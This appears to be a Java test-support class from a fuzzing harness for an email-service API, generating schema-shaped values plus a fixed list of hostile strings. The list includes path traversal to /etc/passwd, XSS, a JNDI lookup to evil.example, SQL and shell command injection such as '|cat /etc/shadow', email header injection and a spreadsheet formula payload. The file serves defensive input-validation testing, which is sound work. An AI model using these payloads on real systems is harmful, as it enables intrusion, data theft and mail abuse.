package io.mailblast.validation.hostile;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.math.BigDecimal;
import java.math.BigInteger;
import java.util.List;
import java.util.SplittableRandom;

/// Values as a schema asks for them, and such as nobody should send.
final class Values {

    private static final JsonNodeFactory JSON = JsonNodeFactory.instance;
    private static final int DEEPEST = 6;

    /// The strategy's malicious identifiers among them.
    private static final List<String> NASTY = List.of(
            "",
            " ",
            "\0",
            "a\0b",
            "\r\nSet-Cookie: x=1",
            "../../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
            "<script>alert('xss')</script>",
            "\"><img src=x onerror=alert(1)>",
            "${jndi:ldap://evil.example/a}",
            "{{7*7}}",
            "{{#each this}}{{this}}{{/each}}",
            "{{{constructor}}}",
            "{{#if",
            "' OR '1'='1",
            "1; drop table contact; --",
            "$(reboot)",
            "`reboot`",
            "|cat /etc/shadow",
            "0",
            "-1",
            "-0",
            "1e9",
            "1000000000",
            "9223372036854775807",
            "9223372036854775808",
            "-9223372036854775809",
            "99999999999999999999999999999999",
            "0x10",
            "1.5",
            "NaN",
            "Infinity",
            "null",
            "true",
            "[]",
            "{}",
            "١٢٣",
            "\u202eevil",
            "\ud83d\ude00",
            "\ufffe",
            "\ufeff1",
            "e\u0301\u0301\u0301\u0301",
            "javascript:alert(1)",
            "data:text/html,<script>1</script>",
            "file:///etc/passwd",
            "http://user:pass@evil.example/",
            "http://xn--e1afmkfd.example/",
            "http://[::1]:22/",
            "http://evil.example/\r\nX: y",
            "amF2YXNjcmlwdDphbGVydCgxKQ==",
            "////",
            "=cmd|' /C calc'!A0",
            "a@b",
            "a@b@c.example",
            "\"a b\"@example.org",
            "a@xn--.example",
            "a@example.org\nBcc: all@example.org",
            "2026-02-30T25:61:61Z",
            "0000-00-00",
            "+999999999-01-01T00:00:00Z",
            "-1d",
            "0s",
            "1000000000d",
            "P1Y",
            "Mars/Olympus",
            "Europe/Berlin\0",
            "eyJhbGciOiJub25lIn0.e30.",
            "MTIzNDU2",
            "id",
            "__proto__");

    private static final int[] LENGTHS = {63, 64, 65, 200, 201, 255, 256, 1_000, 1_001, 8_192, 70_000};

    private final Operations operations;
    private final SplittableRandom random;

    Values(Operations operations, SplittableRandom random) {
        this.operations = operations;
        this.random = random;
    }

    /// Text that nobody should send.
    String nasty() {
        return switch (random.nextInt(12)) {
            case 0 -> "x".repeat(LENGTHS[random.nextInt(LENGTHS.length)]);
            case 1 -> nasty() + nasty();
            case 2 -> garbage(1 + random.nextInt(40));
            default -> NASTY.get(random.nextInt(NASTY.size()));
        };
    }

    /// Characters from all over Unicode, surrogates that stand alone among them.
    private String garbage(int length) {
        StringBuilder text = new StringBuilder();
        for (int i = 0; i < length; i++) {
            text.append((char) (random.nextInt(3) == 0 ? random.nextInt(0x10000) : random.nextInt(0x80)));
        }
        return text.toString();
    }

    /// As the schema asks for.
    JsonNode plausible(JsonNode schema) {
        return plausible(schema, 0);
    }

    private JsonNode plausible(JsonNode declared, int depth) {
        JsonNode schema = operations.resolved(declared);
        if (schema.has("anyOf")) {
            JsonNode choices = schema.path("anyOf");
            return plausible(choices.path(random.nextInt(choices.size())), depth);
        }
        if (schema.has("enum")) {
            JsonNode choices = schema.path("enum");
            return choices.path(random.nextInt(choices.size()));
        }
        return switch (type(schema.path("type"))) {
            case "integer", "number" -> number(schema);
            case "boolean" -> JSON.booleanNode(random.nextBoolean());
            case "array" -> array(schema, depth);
            case "object" -> object(schema, depth);
            case "string" -> text(schema);
            default -> JSON.nullNode();
        };
    }

    private String type(JsonNode declared) {
        return declared.isArray()
                ? declared.path(random.nextInt(declared.size())).asText()
                : declared.asText();
    }

    private JsonNode number(JsonNode schema) {
        long least = schema.path("minimum").asLong(0);
        long most = Math.max(least, Math.min(schema.path("maximum").asLong(1_000), least + 50));
        return JSON.numberNode(least + random.nextLong(most - least + 1));
    }

    private JsonNode text(JsonNode schema) {
        if (schema.path("format").asText().equals("date-time")) {
            return JSON.textNode("2090-01-01T00:00:00Z");
        }
        String[] usual = {"news@garden.example", "https://shop.example/a", "7d", "1h", "UTC", "Newsletter", "1"};
        String text = usual[random.nextInt(usual.length)];
        int least = schema.path("minLength").asInt(0);
        int most = schema.path("maxLength").asInt(Integer.MAX_VALUE);
        return JSON.textNode(
                text.length() < least
                        ? text + "x".repeat(Math.min(least, 1_000))
                        : text.substring(0, Math.min(text.length(), most)));
    }

    private JsonNode array(JsonNode schema, int depth) {
        ArrayNode array = JSON.arrayNode();
        for (int left = depth > DEEPEST ? 0 : random.nextInt(3); left > 0; left--) {
            array.add(plausible(schema.path("items"), depth + 1));
        }
        return array;
    }

    private JsonNode object(JsonNode schema, int depth) {
        ObjectNode object = JSON.objectNode();
        JsonNode required = schema.path("required");
        schema.path("properties").properties().forEach(property -> {
            boolean must = required.valueStream().anyMatch(name -> name.asText().equals(property.getKey()));
            if (must || (depth <= DEEPEST && random.nextInt(3) > 0)) {
                object.set(property.getKey(), plausible(property.getValue(), depth + 1));
            }
        });
        return object;
    }

    /// JSON that no schema asks for.
    JsonNode nastyJson() {
        return switch (random.nextInt(14)) {
            case 0 -> JSON.nullNode();
            case 1 -> JSON.booleanNode(random.nextBoolean());
            case 2 -> JSON.numberNode(-1);
            case 3 -> JSON.numberNode(Long.MAX_VALUE);
            case 4 -> JSON.numberNode(new BigInteger("9".repeat(1 + random.nextInt(60))));
            case 5 -> JSON.numberNode(new BigDecimal("1e" + random.nextInt(-400, 400)));
            case 6 -> JSON.arrayNode();
            case 7 -> JSON.objectNode();
            case 8 -> nested(random.nextInt(1, 200));
            case 9 -> many(random.nextInt(1, 3_000));
            default -> JSON.textNode(nasty());
        };
    }

    private static JsonNode nested(int depth) {
        JsonNode node = JSON.numberNode(1);
        for (int i = 0; i < depth; i++) {
            node = i % 2 == 0 ? JSON.arrayNode().add(node) : JSON.objectNode().set("a", node);
        }
        return node;
    }

    private static JsonNode many(int count) {
        ArrayNode array = JSON.arrayNode();
        for (int i = 0; i < count; i++) {
            array.add(i);
        }
        return array;
    }
}
